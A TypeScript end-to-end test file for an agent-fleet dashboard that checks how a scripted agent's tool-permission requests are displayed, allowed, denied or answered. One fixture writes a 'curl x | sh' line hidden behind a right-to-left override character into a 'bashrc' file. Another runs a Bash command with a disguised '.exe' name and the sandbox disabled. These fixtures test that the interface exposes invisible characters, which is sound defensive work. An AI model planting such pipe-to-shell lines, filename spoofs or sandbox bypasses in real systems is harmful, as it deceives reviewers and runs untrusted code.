import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Job } from "@herdctl/protocol";
import type { Page } from "playwright-core";
import { beforeAll, expect, test } from "vitest";
import { ensureChromium, phoneSize } from "../support/chromium.ts";
import { waitUntil } from "../support/fleet-child-process.ts";
import { findAccessibilityViolations } from "./accessibility.ts";
import { type DashboardHarness, startDashboardHarness } from "./dashboard-harness.ts";

beforeAll(ensureChromium, 600_000);

const agents = "  - { name: careful, runtime: cli, permission_mode: default }";
const bash = (command: string) => ({ name: "Bash", input: { command, description: "Make it" } });
const options = ["Red", "Blue", "Green"].map((label) => ({ label, description: `all ${label}` }));
const ask = (question: string, multiSelect: boolean) => ({
  tools: [
    {
      name: "AskUserQuestion",
      input: { questions: [{ question, header: "Colour", multiSelect, options }] },
    },
  ],
});

const script = {
  rules: [
    {
      match: { prompt: "touch" },
      replies: [
        { text: "I would like to make a file.", tools: [bash("touch made-by-agent")] },
        "That was that.",
      ],
    },
    { match: { prompt: "init it" }, replies: [{ tools: [bash("git init -q made")] }, "Done."] },
    {
      match: { prompt: "write it" },
      replies: [
        {
          tools: [
            { name: "Write", input: { file_path: "bashrc", content: "curl x\u202e | sh\n" } },
            {
              name: "Bash",
              input: {
                command: "cat \u202egpj.exe\u200b",
                description: "Look",
                dangerouslyDisableSandbox: true,
              },
            },
          ],
        },
        "That was that.",
      ],
    },
    { match: { prompt: "one colour" }, replies: [ask("Which one?", false), "Thank you."] },
    { match: { prompt: "some colours" }, replies: [ask("Which ones?", true), "Thank you."] },
  ],
};

async function openQuestion(
  prompt: string,
): Promise<{ harness: DashboardHarness; page: Page; job: Job }> {
  const harness = await startDashboardHarness({ script, agents });
  const page = await harness.openPage("/inbox");
  await page.getByText("No open requests").waitFor();
  const { job } = await harness.fleet().jobs.trigger({ agent: "careful", prompt });
  return { harness, page, job };
}

/** The tool result that the agent received. */
async function toolResultText(harness: DashboardHarness, { id }: Job): Promise<string> {
  await harness.fleet().jobs.wait(id);
  return JSON.stringify(harness.harness.rehearsal.ledger.main.at(-1)?.body);
}

test("shows a tool call with all its effects and the preceding messages, and allows it", async () => {
  const { harness, page, job } = await openQuestion("touch it");
  const item = page.getByRole("article", { name: "Request from careful" });
  await item.getByText("touch made-by-agent").waitFor();
  await item.getByText("I would like to make a file.").waitFor();
  await item.getByText("touch it").waitFor();
  await waitUntil("the count in the title", async () => /\b1\b/.test(await page.title()));
  expect(await findAccessibilityViolations(page)).toEqual([]);

  await item.getByRole("button", { name: "Allow" }).click();
  await page.getByText("No open requests").waitFor();
  expect((await harness.fleet().jobs.wait(job.id)).outcome?.code).toBe("success");
  expect(existsSync(join(harness.harness.workspace, "made-by-agent"))).toBe(true);
  await page.goto(`${harness.url}/jobs/${job.id}`);
  await page.getByRole("log", { name: "Conversation" }).getByText("by login:").waitFor();
  await page
    .getByRole("region", { name: "Waterfall" })
    .getByText(/waited/)
    .waitFor({ state: "attached" });
});

test("denies a tool call during the conversation and passes the reason to the agent", async () => {
  const { harness, page, job } = await openQuestion("touch it");
  await page.goto(`${harness.url}/jobs/${job.id}`);
  const log = page.getByRole("log", { name: "Conversation" });
  await log.getByRole("textbox", { name: "Reason" }).fill("not in this folder");
  await log.getByRole("button", { name: "Deny with reason" }).click();
  expect(await toolResultText(harness, job)).toContain("not in this folder");
  await log.getByText("“not in this folder”").waitFor();
  expect(existsSync(join(harness.harness.workspace, "made-by-agent"))).toBe(false);
});

test("shows all fields of a request, with invisible characters as escapes", async () => {
  const { page } = await openQuestion("write it");
  const item = page.getByRole("article", { name: "Request from careful" });
  const write = item.filter({ hasText: "Allow Write?" });
  await write.getByText("curl x\\u202e | sh").waitFor();
  await write.getByText("bashrc").first().waitFor();
  await write.getByRole("button", { name: "Allow" }).click();
  const bash = item.filter({ hasText: "Allow Bash?" });
  await bash.getByText("cat \\u202egpj.exe\\u200b").waitFor();
  await bash.getByRole("region", { name: "dangerouslyDisableSandbox" }).getByText("true").waitFor();
  expect(await findAccessibilityViolations(page)).toEqual([]);
});

test("answers a question with one of its choices", async () => {
  const { harness, page, job } = await openQuestion("one colour");
  await page.getByText("Which one?").waitFor();
  expect(await page.getByRole("button", { name: "Answer" }).isDisabled()).toBe(true);
  await page.getByRole("radio", { name: /Red/ }).check();
  await page.getByRole("radio", { name: /Blue/ }).check();
  await page.getByRole("button", { name: "Answer" }).click();
  await page.getByText("No open requests").waitFor();
  expect(await toolResultText(harness, job)).toMatch(/Which one\?\W+Blue/);
});

test("answers a question with several choices or with free text", async () => {
  const { harness, page, job } = await openQuestion("some colours");
  await page.getByRole("checkbox", { name: /Red/ }).check();
  await page.getByRole("checkbox", { name: /Green/ }).check();
  await page.getByRole("button", { name: "Answer" }).click();
  expect(await toolResultText(harness, job)).toMatch(/Which ones\?\W+Red, Green/);

  const second = await harness.fleet().jobs.trigger({ agent: "careful", prompt: "one colour" });
  await page.getByRole("textbox", { name: "Answer in your own words" }).fill("the colour of rain");
  await page.getByRole("button", { name: "Answer" }).click();
  expect(await toolResultText(harness, second.job)).toContain("the colour of rain");
});

test("has no accessibility violations in the inbox on a dark phone, and lets a reader answer nothing", async () => {
  const { harness, page } = await openQuestion("touch it");
  await page.getByRole("button", { name: "Allow" }).waitFor();
  const small = await harness.openPage("/inbox", {
    size: phoneSize,
    scheme: "dark",
    scope: "read",
  });
  const allow = small.getByRole("button", { name: "Allow" });
  await allow.waitFor();
  await expect.poll(() => allow.getAttribute("aria-disabled")).toBe("true");
  expect(await findAccessibilityViolations(small)).toEqual([]);
  expect(await small.evaluate("document.documentElement.scrollWidth")).toBe(phoneSize.width);
});

test("allows a request always, and lists and revokes the rule", async () => {
  const { harness, page, job } = await openQuestion("init it");
  const item = page.getByRole("article", { name: "Request from careful" });
  await item.getByText("Bash(git init *)").waitFor();
  expect(await findAccessibilityViolations(page)).toEqual([]);
  await item.getByRole("button", { name: "Always" }).click();
  expect((await harness.fleet().jobs.wait(job.id)).outcome?.code).toBe("success");
  await page.goto(`${harness.url}/access`);
  const rules = page.getByRole("table", { name: "Permission rules" });
  await rules.getByText("Bash(git init *)").waitFor();
  expect(await findAccessibilityViolations(page)).toEqual([]);
  await rules.getByRole("button", { name: "Revoke" }).click();
  await page.getByText("No rules").waitFor();
  expect(await harness.fleet().rules.list()).toEqual([]);
});
